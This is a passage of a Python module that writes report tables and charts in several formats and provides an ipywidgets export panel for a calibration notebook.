    """Write tables and charts in the chosen formats, plus ``index.html`` when ``html`` is chosen.

    Parameters
    ----------
    out : path
        Output folder.
    tables, figures : mappings, optional
        As for :func:`write_tables` and :func:`write_figures`. ``figures`` may be omitted when only
        ``csv`` is asked for (the fast path).
    formats : str or iterable of str
        Among :data:`FORMATS`: ``csv`` writes the tables; ``png``, ``svg``, ``pdf`` the static
        images; ``html`` a standalone page per chart and the one-file ``index.html``.
    title, meta, guides, notes
        For :func:`write_index_html`.
    progress : bool, default True
    allow_private : bool, default False
        See :func:`write_tables`.
    columns, brief
        For :func:`write_index_html`: the table columns shown in the page, a findings brief.
    table_digits : int, optional
        Round the CSV tables' floats (:func:`round_table`); default full precision.
    **figure_options
        ``width``, ``height``, ``scale`` (default 2: sharp on slides), ``tabs``, ``timeout``,
        ``shared_plotlyjs`` for :func:`write_figures`.

    Returns
    -------
    list of Path
        Every file written: tables, chart pages (and their shared ``plotly.min.js``),
        ``index.html``, then the static images.

    Raises
    ------
    MissingBrowserError
        When static images were asked for and no Chromium is found: raised *after* everything
        that needs no browser was written; ``.paths`` lists those files and ``.skipped`` the
        formats not written, and the message says how to get a browser.
    """
    fmts = parse_formats(formats)
    tables = tables or {}
    figures = figures or {}
    figure_options.setdefault("scale", 2)
    paths: list[Path] = []
    if "csv" in fmts:
        paths += write_tables(tables, out, allow_private=allow_private, digits=table_digits)
    # what needs no browser first: a machine without Chromium still gets tables, pages and index
    if "html" in fmts and figures:
        paths += write_figures(figures, out, ["html"], progress=progress,
                               **{k: v for k, v in figure_options.items() if k not in ("width", "height", "scale",
                                                                                         "tabs", "timeout")})
    if "html" in fmts:
        paths.append(write_index_html(out, figures, tables, title=title, meta=meta, guides=guides,
                                      notes=notes, columns=columns, brief=brief))
    image_fmts = [f for f in fmts if f in IMAGE_FORMATS]
    if image_fmts and figures:
        try:
            paths += write_figures(figures, out, image_fmts, progress=progress, **figure_options)
        except MissingBrowserError as exc:
            exc.paths, exc.skipped = list(paths), tuple(image_fmts)
            raise
    return paths


def format_size(n_bytes: int) -> str:
    """``1536`` -> ``"1.5 kB"`` (decimal units, as file managers show)."""
    size = float(n_bytes)
    for unit in ("B", "kB", "MB", "GB"):
        if size < 1000 or unit == "GB":
            return f"{int(size)} {unit}" if unit == "B" else f"{size:.1f} {unit}"
        size /= 1000
    raise AssertionError("unreachable")


def files_table(paths: Iterable[str | os.PathLike], root: str | os.PathLike | None = None
                ) -> pd.DataFrame:
    """What was written, with sizes: one row per file, for the closing note of a report.

    Parameters
    ----------
    paths : iterable of path
        Files, e.g. the list returned by :func:`write_report`.
    root : path, optional
        Shown paths are relative to it.

    Returns
    -------
    DataFrame
        Columns ``file`` (str), ``format`` (extension), ``bytes`` (int) and ``size`` (readable).
        ``df.bytes.sum()`` is the total; ``df.groupby("format").bytes.sum()`` the split.
    """
    rows = []
    for p in paths:
        p = Path(p)
        shown = p.relative_to(root) if root is not None and p.is_relative_to(root) else p
        n = p.stat().st_size
        rows.append({"file": shown.as_posix(), "format": p.suffix.lstrip(".").lower(), "bytes": n,
                     "size": format_size(n)})
    return pd.DataFrame(rows, columns=["file", "format", "bytes", "size"]).astype(
        {"bytes": "int64"})


# ----------------------------------------------------------------------------------------------
# Export widget
# ----------------------------------------------------------------------------------------------

class ExportPanel:
    """A small form to export the charts and tables on screen: choose, click, see what was written.

    Built for the calibration notebook, where an explorer widget redraws the charts for a criterion,
    level or period: pass the figures and tables as callables and the panel exports what is shown
    *at the moment of the click*.

    Parameters
    ----------
    figures : mapping of str to Figure, or callable returning one
        The charts that can be exported; every one is ticked at first.
    tables : mapping of str to DataFrame, or callable returning one, optional
        Written as CSV (when ``csv`` is ticked) and shown in ``index.html`` (when ``html`` is).
    out : path, default "reports"
        Output folder shown in the form (editable).
    formats : iterable of str, default all of :data:`FORMATS`
        Formats ticked at first.
    title, meta, guides, notes
        For :func:`write_index_html`; ``meta`` may be a callable too (the period and counts
        change with the explorer's filters).

    Attributes
    ----------
    widget : ipywidgets.VBox
        The form (the panel also displays itself in a notebook).
    last_paths : list of Path
        Files written by the last export.
    last_error : Exception or None
        The error of the last export, also shown in the status line.

    Examples
    --------
    >>> panel = ExportPanel(lambda: explorer.figures, lambda: explorer.tables)  # doctest: +SKIP
    >>> panel                                                                     # doctest: +SKIP

    Notes
    -----
    The form only gathers choices and calls :func:`write_report`; it knows nothing of file formats.
    Errors inside the click handler are shown in the form, never swallowed. Static images are
    rendered in a thread of their own, so they work inside Jupyter's running event loop.
    """

    def __init__(self, figures, tables=None, *, out: str | os.PathLike = "reports",
                 formats: Iterable[str] = FORMATS, title: str = "Interview calibration report",
                 meta=None, guides: Mapping[str, str] | None = None,
                 notes: str | Sequence[str] | None = None):
        import ipywidgets as w

        self._figures_source = figures
        self._tables_source = tables
        self._meta_source = meta
        self.title, self.guides, self.notes = title, guides, notes
        self.last_paths: list[Path] = []
        self.last_error: Exception | None = None
        chosen = parse_formats(formats)

        self._charts = w.SelectMultiple(description="Charts", rows=6,
                                        layout=w.Layout(width="30rem"))
        self._formats = {f: w.Checkbox(value=f in chosen, description=f.upper(), indent=False,
                                       layout=w.Layout(width="5.5rem")) for f in FORMATS}
        self._folder = w.Text(value=str(out), description="Folder", layout=w.Layout(width="30rem"))
        self._button = w.Button(description="Export", button_style="primary", icon="download")
        self._status = w.HTML(value="")
        self._files = w.HTML(value="")
        self._button.on_click(self._on_button_click)
        for box in self._formats.values():
            box.observe(self._on_format_change, names="value")
        self._charts.observe(self._on_format_change, names="value")
        self.widget = w.VBox([
            w.HTML("<b>Export charts and tables</b>"),
            self._charts,
            w.HBox([w.Label("Formats", layout=w.Layout(width="6rem")), *self._formats.values()]),
            self._folder,
            w.HBox([self._button, self._status]),
            self._files,
        ])
        self.widget.add_class("icw-export-panel")
        self.refresh()

    @classmethod
    def following(cls, source, **kwargs) -> "ExportPanel":
        """A panel that exports whatever ``source`` shows at the moment of the click.

        ``source`` is any object with ``figures`` and ``tables`` attributes (mappings) and
        optionally ``meta``, such as :class:`analysis.widgets.explorer.CalibrationExplorer`::

            ExportPanel.following(explorer, guides=charts.READING_GUIDE, out="reports/explorer")
        """
        kwargs.setdefault("meta", lambda: getattr(source, "meta", None))
        return cls(lambda: source.figures, lambda: source.tables, **kwargs)

    # --------------------------------------------------------------------------------- helpers

    @staticmethod
    def _resolve(source):
        value = source() if callable(source) else source
        return dict(value or {})

    def refresh(self) -> None:
        """Re-read the chart names (after the explorer changed which charts exist)."""
        names = list(self._resolve(self._figures_source))
        keep = [n for n in self._charts.value if n in names]
        self._charts.options = names
        self._charts.value = tuple(keep or names)
        self._on_format_change()

    @property
    def selected_formats(self) -> tuple[str, ...]:
        return tuple(f for f, box in self._formats.items() if box.value)

    @property
    def selected_charts(self) -> tuple[str, ...]:
        return tuple(self._charts.value)

    def _say(self, text: str, *, error: bool = False) -> None:
        colour = "#C0392B" if error else "#555"
        self._status.value = f'<span style="color:{colour}">{html.escape(text)}</span>'

    def _on_format_change(self, change=None) -> None:
        fmts, charts = self.selected_formats, self.selected_charts
        needs_charts = any(f != "csv" for f in fmts)
        # only a missing format disables the button: the charts are re-read at the click, so a
        # source that had none when the list was drawn may have some by then
        self._button.disabled = not fmts
        if not fmts:
            self._say("choose at least one format", error=True)
        elif needs_charts and not charts:
            self._say("no chart chosen: only tables will be written" if "csv" in fmts
                      else "choose at least one chart", error="csv" not in fmts)
        else:
            self._say("")

    # -------------------------------------------------------------------------------- handler

    def _on_button_click(self, button=None) -> None:
        self.last_error = None
        fmts = self.selected_formats
        if not fmts:
            self._say("choose at least one format", error=True)
            return
        self._button.disabled = True
        self._say("writing ...")
        try:
            figures = self._resolve(self._figures_source)
            if tuple(figures) != tuple(self._charts.options):
                self.refresh()  # the source's charts changed since the list was drawn
            figures = {n: figures[n] for n in self.selected_charts if n in figures}
            tables = self._resolve(self._tables_source)
            meta = self._resolve(self._meta_source)
            if not figures and not tables:
                raise ExportError("nothing to export: no chart is chosen and there is no table "
                                  "(did the explorer above fail to compute this slice?)")
            out = Path(self._folder.value.strip() or ".").expanduser()
            paths = write_report(out, tables=tables, figures=figures, formats=fmts,
                                 title=self.title, meta=meta, guides=self.guides,
                                 notes=self.notes, progress=False)
        except Exception as exc:  # noqa: BLE001 - shown in the form and kept, never swallowed
            self.last_error = exc
            self.last_paths = []
            self._files.value = ""
            self._say(f"export failed: {type(exc).__name__}: {exc}", error=True)
            return
        finally:
            self._button.disabled = False
        self.last_paths = paths
        summary = files_table(paths, out)
        total = format_size(int(summary["bytes"].sum()))
        self._say(f"wrote {len(paths)} files ({total}) to {out.resolve()}")
        rows = "".join(f"<tr><td>{html.escape(r.file)}</td><td style='text-align:right'>"
                       f"{html.escape(r.size)}</td></tr>" for r in summary.itertuples())
        self._files.value = f'<table class="icw-export-files">{rows}</table>'

    def _ipython_display_(self):
        from IPython.display import display
        display(self.widget)
